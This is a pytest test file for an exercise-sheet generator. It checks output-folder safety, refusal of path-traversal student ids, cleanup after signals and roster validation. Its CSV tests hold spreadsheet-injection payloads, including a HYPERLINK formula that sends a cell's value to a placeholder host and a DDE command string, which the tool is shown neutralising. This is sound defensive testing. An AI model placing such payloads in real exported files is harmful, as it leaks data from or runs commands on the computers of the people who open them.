"""Nothing lost, nothing run: exgen writes only inside the chosen out folder, replaces only
folders it made, leaves no hidden folder behind (on failure, on SIGINT/SIGTERM, after a
SIGKILL), ends its workers with itself, reports a worker's error like `exgen build`,
refuses odd command-line bytes and odd rosters, and writes CSV no spreadsheet runs."""

from __future__ import annotations

import csv
import importlib
import io
import json
import os
import pickle
import pkgutil
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from cli_run import invoke

import exgen
from exgen.build import output_folder
from exgen.build.csv_cells import csv_bytes, safe_cell
from exgen.build.output_folder import (
    MARKER,
    Staging,
    remove_leftovers,
    swap_in,
    write_folder,
)
from exgen.errors import ExgenError

ROOT = Path(__file__).parents[1]
ENV = {**os.environ, "PYTHONPATH": str(ROOT)}
TINY = """title: t
variants:
  seed: s
  draw:
    e.w: {integers: [1, 5]}
exercises:
  - id: e
    title: e
    network:
      equations: ["h = w * x", "L = 0.5 * (h - t) ** 2"]
      loss: L
      params: [w]
    values: {w: 1, x: 2, t: 20}
    ask: [backward]
"""
LOG0 = """  - id: f
    title: f
    network:
      equations: ["h = log(c) * v", "L = 0.5 * (h - t) ** 2"]
      loss: L
      params: [v]
    values: {v: 1, c: 0, t: 0}
    ask: [backward]
"""
ID_RULE = "1–64 letters, digits, '.', '_' or '-', starting with a letter or digit"


def tiny(work: Path, text: str = TINY) -> Path:
    (work / "exercises").mkdir(exist_ok=True)
    (work / "exercises" / "tiny.yaml").write_text(text)
    return work


def snapshot(folder: Path) -> dict[str, bytes | None]:
    """Every path under ``folder`` with its bytes (None for folders)."""
    return {
        str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else None)
        for p in sorted(folder.rglob("*"))
    }


def hidden(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob(".*") if p.name != MARKER)


# --- names and paths are checked before anything is written --------------------------------


def test_a_file_named_dot_dot_yaml_does_not_replace_the_out_folder(tmp_path):
    (tmp_path / "defs").mkdir()
    (tmp_path / "defs" / "..yaml").write_text(TINY)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "keep.txt").write_text("mine")
    before = snapshot(tmp_path)
    result = invoke(tmp_path, "build", "defs/..yaml", "--no-pdf")
    assert result.exit_code == 2
    assert result.stderr == (
        "error: defs/..yaml: the sheet name '.' (the file's name without .yaml) "
        "must be 1–100 letters, digits, '.', '_' or '-', starting with a letter "
        "or digit: it names the output folder; rename the file\n"
    )
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("out, shown", [(".", "important"), ("out", "out/important")])
def test_a_folder_exgen_did_not_make_is_not_replaced(tmp_path, out, shown):
    (tmp_path / "defs").mkdir()
    (tmp_path / "defs" / "important.yaml").write_text(TINY)
    (tmp_path / out / "important").mkdir(parents=True, exist_ok=True)
    (tmp_path / out / "important" / "thesis.tex").write_text("years of work")
    before = snapshot(tmp_path)
    for extra in ([], ["--variants", "2"]):
        result = invoke(tmp_path, "build", "defs/important.yaml", "--out", out, "--no-pdf", *extra)
        assert result.exit_code == 3, result.output
        assert result.stderr == (
            f"error: {shown}: exists and was not made by exgen; remove it or choose another --out\n"
        )
        assert snapshot(tmp_path) == before


def test_output_of_an_exgen_without_markers_is_refused_with_a_hint(tmp_path):
    tiny(tmp_path)
    (tmp_path / "out" / "tiny").mkdir(parents=True)
    (tmp_path / "out" / "tiny" / "key.json").write_text("{}")
    result = invoke(tmp_path, "build", "tiny", "--no-pdf")
    assert result.exit_code == 3
    assert result.stderr == (
        "error: out/tiny: exists and was not made by exgen (no .exgen marker: "
        "outputs of earlier exgen versions have none); remove it or choose "
        "another --out\n"
    )


def test_a_link_in_place_of_the_output_is_not_followed(tmp_path):
    tiny(tmp_path)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / MARKER).write_bytes(b"")
    (tmp_path / "elsewhere" / "data").write_text("keep")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "tiny").symlink_to(tmp_path / "elsewhere")
    result = invoke(tmp_path, "build", "tiny", "--no-pdf")
    assert result.exit_code == 3
    assert (tmp_path / "elsewhere" / "data").read_text() == "keep"


def test_every_build_marks_the_folders_it_may_replace(tmp_path):
    tiny(tmp_path)
    assert invoke(tmp_path, "build", "tiny", "--no-pdf").exit_code == 0
    assert (tmp_path / "out/tiny" / MARKER).is_file()
    assert invoke(tmp_path, "build", "tiny", "--no-pdf", "--variants", "2").exit_code == 0
    for folder in ("out/tiny", "out/tiny/variants/001", "out/tiny/variants/002"):
        assert (tmp_path / folder / MARKER).is_file(), folder
    assert invoke(tmp_path, "build", "tiny", "--no-pdf", "--student", "002").exit_code == 0
    assert (tmp_path / "out/tiny/variants/002" / MARKER).is_file()
    assert hidden(tmp_path / "out") == []


# --- --student names a student of the class -------------------------------------------------


@pytest.mark.parametrize("ident", ["VICTIM", "../../../x", ".", "..", "a/b", "-rf"])
def test_student_ids_that_are_paths_are_refused_before_anything_happens(tmp_path, ident):
    tiny(tmp_path)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep")
    ident = str(victim) if ident == "VICTIM" else ident
    assert invoke(tmp_path, "build", "tiny", "--no-pdf", "--variants", "2").exit_code == 0
    before = snapshot(tmp_path)
    for extra in ([], ["--variants", "2"]):
        result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--student", ident, *extra)
        assert result.exit_code == 2
        assert result.stderr == (
            f"error: --student {ident!r}: a student id is {ID_RULE} "
            "(it names the student's folder)\n"
        )
        assert snapshot(tmp_path) == before
    assert not (tmp_path.parents[2] / "x").exists()


def test_student_must_be_in_the_roster(tmp_path):
    tiny(tmp_path)
    (tmp_path / "class.csv").write_text("id,name\na1,Ada\nb2,Bo\n")
    result = invoke(
        tmp_path, "build", "tiny", "--no-pdf", "--roster", "class.csv", "--student", "zz9"
    )
    assert result.exit_code == 2
    assert result.stderr == "error: --student 'zz9' is not a student of the roster class.csv\n"
    assert not (tmp_path / "out").exists()


def test_student_must_be_within_the_variants(tmp_path):
    tiny(tmp_path)
    result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--variants", "3", "--student", "004")
    assert result.exit_code == 2
    assert result.stderr == "error: --student '004' is not a student of --variants 3 (001…003)\n"
    result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--variants", "3", "--student", "3")
    assert result.stderr == "error: --student '3' is not a student of --variants 3 (001…003)\n"
    assert not (tmp_path / "out").exists()


def test_student_alone_comes_from_the_class_build(tmp_path):
    tiny(tmp_path)
    result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--student", "a1")
    assert result.exit_code == 2
    assert result.stderr == (
        "error: --student: out/tiny holds no class build to take the student "
        "from; give --roster or --variants as well\n"
    )
    assert not (tmp_path / "out").exists()
    (tmp_path / "class.csv").write_text("id,name\na1,Ada Lovelace\nb2,Bo\n")
    assert invoke(tmp_path, "build", "tiny", "--no-pdf", "--roster", "class.csv").exit_code == 0
    first = (tmp_path / "out/tiny/variants/a1/key.json").read_bytes()
    result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--student", "zz9")
    assert (
        result.stderr == "error: --student 'zz9' is not a student of the class build in out/tiny\n"
    )
    result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--student", "a1")
    assert result.exit_code == 0, result.output
    assert result.stdout == "built out/tiny/variants/a1/ for 1 student\n"
    assert (tmp_path / "out/tiny/variants/a1/key.json").read_bytes() == first
    assert "Ada Lovelace" in (tmp_path / "out/tiny/variants/a1/sheet.html").read_text()
    assert hidden(tmp_path / "out") == []


def test_roster_and_variants_together_are_refused(tmp_path):
    tiny(tmp_path)
    (tmp_path / "class.csv").write_text("id\na1\n")
    result = invoke(
        tmp_path, "build", "tiny", "--no-pdf", "--roster", "class.csv", "--variants", "2"
    )
    assert result.exit_code == 2
    assert result.stderr == "error: give --roster or --variants, not both\n"


# --- no hidden folder is left ----------------------------------------------------------------


def test_a_failed_write_leaves_the_earlier_output_and_nothing_else(tmp_path, monkeypatch):
    tiny(tmp_path)
    assert invoke(tmp_path, "build", "tiny", "--no-pdf").exit_code == 0
    before = snapshot(tmp_path)
    from exgen.build import single

    def half(folder, files):
        (folder / "sheet.html").write_text("half")
        raise KeyboardInterrupt

    monkeypatch.setattr(single, "write_files", half)
    result = invoke(tmp_path, "build", "tiny", "--no-pdf")
    assert (result.exit_code, result.stderr) == (130, "interrupted\n")
    assert snapshot(tmp_path) == before


def test_leftovers_of_a_killed_build_go_at_the_next_build(tmp_path):
    tiny(tmp_path)
    out = tmp_path / "out"
    for name, marked in [
        (".tiny.new-abcdefgh", True),
        (".tiny.old-a1b2c3d4", True),
        (".tiny.old-emptyyyy", False),
        (".tiny.new-zzzzzzzz", False),
        (".other.new-abcdefgh", True),
        (".tiny.new-toolong12", True),
    ]:
        (out / name / "variants").mkdir(parents=True)
        if marked:
            (out / name / MARKER).write_bytes(b"")
        if name != ".tiny.old-emptyyyy":
            (out / name / "variants" / "x").write_text("x")
    (out / ".tiny.old-emptyyyy" / "variants").rmdir()
    assert invoke(tmp_path, "build", "tiny", "--no-pdf").exit_code == 0
    # only exgen's names with exgen's marker (or empty) are removed
    assert sorted(os.listdir(out)) == [
        ".other.new-abcdefgh",
        ".tiny.new-toolong12",
        ".tiny.new-zzzzzzzz",
        "tiny",
    ]


def test_a_staging_folder_another_build_holds_is_left_alone(tmp_path):
    target = tmp_path / "out" / "s"
    target.parent.mkdir()
    live = Staging(target)
    try:
        remove_leftovers(target.parent, "s")
        assert live.path.is_dir()
    finally:
        live.close()
    remove_leftovers(target.parent, "s")
    assert os.listdir(target.parent) == []


def test_two_builds_swapping_at_once_leave_nothing_behind(tmp_path, monkeypatch):
    target = tmp_path / "out" / "s"
    write_folder(target, lambda f: (f / "v").write_text("earlier"))
    first, second = Staging(target), Staging(target)
    (first.path / "v").write_text("first")
    (second.path / "v").write_text("second")
    rename, raced = os.rename, []

    def racing(src, dst):
        if Path(src) == first.path and not raced:  # the other build swaps in right now
            raced.append(True)
            swap_in(second.path, target)
        return rename(src, dst)

    monkeypatch.setattr(output_folder.os, "rename", racing)
    swap_in(first.path, target)
    first.close()
    second.close()
    assert raced and (target / "v").read_text() == "first"
    assert os.listdir(target.parent) == ["s"]


def _unprivileged(cmd: list[str]) -> list[str]:
    """``cmd`` without the powers that let root ignore file permissions."""
    if os.geteuid() != 0:
        return cmd
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("root without setpriv: file permissions cannot be tested")
    return [
        setpriv,
        "--bounding-set",
        "-dac_override,-dac_read_search,-fowner",
        "--inh-caps",
        "-all",
        "--",
        *cmd,
    ]


def test_a_read_only_earlier_output_is_replaced_without_leftovers(tmp_path):
    tiny(tmp_path)
    assert invoke(tmp_path, "build", "tiny", "--no-pdf", "--variants", "2").exit_code == 0
    for path in sorted((tmp_path / "out/tiny").rglob("*"), reverse=True) + [tmp_path / "out/tiny"]:
        path.chmod(0o555 if path.is_dir() else 0o444)
    result = subprocess.run(
        _unprivileged(
            [sys.executable, "-m", "exgen", "build", "tiny", "--no-pdf", "--variants", "3"]
        ),
        cwd=tmp_path,
        env=ENV,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert sorted(os.listdir(tmp_path / "out")) == ["tiny"]
    assert sorted(os.listdir(tmp_path / "out/tiny/variants")) == ["001", "002", "003"]


# --- class builds: interrupts, kills, workers ------------------------------------------------


def _children(pid: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                fields = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry))
    return found


def _ended(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] in "ZX"
    except OSError:
        return True


def _poll(condition, timeout: float = 60.0) -> bool:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


def _class_build_under_way(work: Path):
    """A class build of sheet9 running in its own session, its workers busy writing."""
    shutil.copytree(ROOT / "exercises", work / "exercises")
    assert invoke(work, "build", "sheet9", "--no-pdf").exit_code == 0  # an earlier output
    earlier = snapshot(work / "out")
    with open(work / "stderr", "w") as err:
        process = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "exgen",
                "build",
                "sheet9",
                "--variants",
                "400",
                "--no-pdf",
                "--jobs",
                "2",
            ],
            cwd=work,
            env=ENV,
            stdout=err,
            stderr=err,
            start_new_session=True,
        )

    def busy():
        return list((work / "out").glob(".sheet9.new-*/variants/*")) or process.poll() is not None

    assert _poll(busy), "the class build did not start"
    assert process.poll() is None, (work / "stderr").read_text()
    workers = _children(process.pid)
    assert len(workers) >= 2
    return process, workers, earlier


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize(
    "how, status, message",
    [
        ("ctrl-c", 130, "interrupted\n"),  # SIGINT to the whole process group, as a terminal does
        ("sigint", 130, "interrupted\n"),
        ("sigterm", 143, "terminated\n"),
    ],
)
def test_an_interrupted_class_build_stops_cleanly(tmp_path, how, status, message):
    process, workers, earlier = _class_build_under_way(tmp_path)
    if how == "ctrl-c":
        os.killpg(process.pid, signal.SIGINT)
    else:
        process.send_signal(signal.SIGINT if how == "sigint" else signal.SIGTERM)
    assert process.wait(timeout=60) == status
    assert (tmp_path / "stderr").read_text() == message  # one line, no worker's traceback
    assert _poll(lambda: all(_ended(w) for w in workers)), "workers outlived their parent"
    assert snapshot(tmp_path / "out") == earlier  # no hidden folder, the earlier output intact


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux's")
def test_a_killed_class_build_takes_its_workers_and_its_leftovers_go_next_time(tmp_path):
    process, workers, _ = _class_build_under_way(tmp_path)
    process.kill()
    process.wait(timeout=60)
    assert _poll(lambda: all(_ended(w) for w in workers)), "workers outlived their parent"
    assert [p.name[:12] for p in (tmp_path / "out").glob(".*")] == [".sheet9.new-"]
    assert invoke(tmp_path, "build", "sheet9", "--no-pdf").exit_code == 0
    assert sorted(os.listdir(tmp_path / "out")) == ["sheet9"]


# --- errors from the workers read as in `exgen build` ----------------------------------------


def _error_classes():
    for info in pkgutil.walk_packages(exgen.__path__, "exgen."):
        if info.name != "exgen.__main__":
            importlib.import_module(info.name)
    seen, todo = [], [ExgenError]
    while todo:
        cls = todo.pop()
        seen.append(cls)
        todo += cls.__subclasses__()
    return sorted(seen, key=lambda c: c.__qualname__)


@pytest.mark.parametrize("cls", _error_classes(), ids=lambda c: c.__qualname__)
def test_every_exgen_error_survives_pickling(cls):
    try:
        error = cls("it broke", "f.yaml", "exercises[0].values.x", 7)
    except TypeError:
        error = cls("it broke")
    copy = pickle.loads(pickle.dumps(error))
    assert type(copy) is cls
    assert str(copy) == str(error) and copy.__dict__ == error.__dict__


def test_an_exercise_that_cannot_be_computed_reads_the_same_in_a_class_build(tmp_path):
    tiny(tmp_path, TINY + LOG0)
    single = invoke(tmp_path, "build", "tiny", "--no-pdf")
    assert single.exit_code == 2
    assert single.stderr == (
        "error: exercises/tiny.yaml:18: exercises[1].network.equations[0]: "
        "'log(c)' takes the log of a value ≤ 0\n"
    )
    for jobs in ("1", "2"):
        result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--variants", "3", "--jobs", jobs)
        assert (result.exit_code, result.stderr) == (2, single.stderr)
    assert not (tmp_path / "out").exists()


# --- command-line bytes that are not UTF-8 ---------------------------------------------------


@pytest.mark.parametrize(
    "option, message",
    [
        ("--seed", "error: --seed '\\xff': not UTF-8 text\n"),
        (
            "--student",
            f"error: --student '\\xff': a student id is {ID_RULE} (it names the student's folder)\n",
        ),
    ],
)
def test_arguments_that_are_not_utf8(tmp_path, option, message):
    tiny(tmp_path)
    result = subprocess.run(
        [
            sys.executable.encode(),
            b"-m",
            b"exgen",
            b"build",
            b"tiny",
            b"--no-pdf",
            b"--variants",
            b"2",
            option.encode(),
            b"\xff",
        ],
        cwd=tmp_path,
        env=ENV,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2
    assert result.stderr.decode() == message
    assert not (tmp_path / "out").exists()


# --- rosters ---------------------------------------------------------------------------------


def _roster_error(work: Path, roster: str) -> tuple[int, str]:
    tiny(work)
    result = invoke(work, "build", "tiny", "--no-pdf", "--roster", roster)
    assert not (work / "out").exists()
    return result.exit_code, result.stderr


def test_a_device_is_no_roster(tmp_path):
    assert _roster_error(tmp_path, "/dev/zero") == (
        2,
        "error: /dev/zero: the roster is not a regular file\n",
    )


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_is_no_roster_and_does_not_block(tmp_path):
    tiny(tmp_path)
    os.mkfifo(tmp_path / "class.csv")
    result = subprocess.run(
        [sys.executable, "-m", "exgen", "build", "tiny", "--no-pdf", "--roster", "class.csv"],
        cwd=tmp_path,
        env=ENV,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert (result.returncode, result.stderr) == (
        2,
        "error: class.csv: the roster is not a regular file\n",
    )


def test_a_huge_roster_is_not_read(tmp_path):
    with open(tmp_path / "class.csv", "wb") as f:
        f.truncate(5 * 1024 * 1024)
    assert _roster_error(tmp_path, "class.csv") == (
        2,
        "error: class.csv: the roster has 5,242,880 bytes; at most 4,194,304 are read\n",
    )


@pytest.mark.parametrize(
    "name, message",
    [
        (
            "x" * 131_072,
            "class.csv:3: the name of student 'b2' has 131,072 characters; at most 200",
        ),
        (
            "x" * 200_000,
            "class.csv:3: a cell longer than 131,072 characters (names have at most 200)",
        ),
        ("x" * 201, "class.csv:3: the name of student 'b2' has 201 characters; at most 200"),
        (
            "Ada\u202eecila",
            "class.csv:3: the name of student 'b2' contains a bidirectional control "
            "(U+202E), which would hide or reorder text; write the name without it",
        ),
        (
            "\u202aAda",
            "class.csv:3: the name of student 'b2' contains a bidirectional control (U+202A), "
            "which would hide or reorder text; write the name without it",
        ),
        (
            "Ada\u2066x\u2069",
            "class.csv:3: the name of student 'b2' contains a bidirectional control "
            "(U+2066), which would hide or reorder text; write the name without it",
        ),
        (
            "Ada\x1b[31m",
            "class.csv:3: the name of student 'b2' contains a control character (U+001B), "
            "which would hide or reorder text; write the name without it",
        ),
        (
            '"Ada\nLovelace"',
            "class.csv:4: the name of student 'b2' contains a control character "
            "(U+000A), which would hide or reorder text; write the name without it",
        ),
    ],
    ids=[
        "131072 characters",
        "200000 characters",
        "201 characters",
        "U+202E",
        "U+202A",
        "U+2066",
        "ESC",
        "newline",
    ],
)
def test_roster_names_that_are_refused(tmp_path, name, message):
    (tmp_path / "class.csv").write_text(f"id,name\na1,Ada\nb2,{name}\n", encoding="utf-8")
    assert _roster_error(tmp_path, "class.csv") == (2, f"error: {message}\n")


# --- CSV cells -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell, written",
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"click")',
            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("-", "'-"),
        ("-1.96", "-1.96"),
        ("-3,50", "-3,50"),  # decimal: ","
        ("-2,5+1", "'-2,5+1"),
        ("+0.5", "+0.5"),
        ("-1.5e-05", "-1.5e-05"),
        ("1.96", "1.96"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("", ""),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cell, written):
    assert safe_cell(cell) == written
    assert next(csv.reader(io.StringIO(csv_bytes([[cell]]).decode()))) == [written]


def test_answers_csv_keeps_numbers_and_defuses_names(tmp_path):
    tiny(tmp_path)
    (tmp_path / "class.csv").write_text(
        'id,name\na1,"=HYPERLINK(""http://x.example"",""x"")"\nb2,@SUM(A1:A9)\nc3,-2+3\nd4,Ada\n',
        encoding="utf-8",
    )
    result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--roster", "class.csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out/tiny/answers.csv").read_text())))
    assert [r["name"] for r in rows] == [
        '\'=HYPERLINK("http://x.example","x")',
        "'@SUM(A1:A9)",
        "'-2+3",
        "Ada",
    ]
    keys = {
        s: json.loads((tmp_path / "out/tiny/variants" / s / "key.json").read_text())
        for s in ("a1", "b2", "c3", "d4")
    }
    for row in rows:
        shown = keys[row["id"]]["exercises"]["e"]["grads"]["w"]["shown"]
        assert shown.startswith("-") and row["e dL/dw"] == shown  # a negative number stays a number
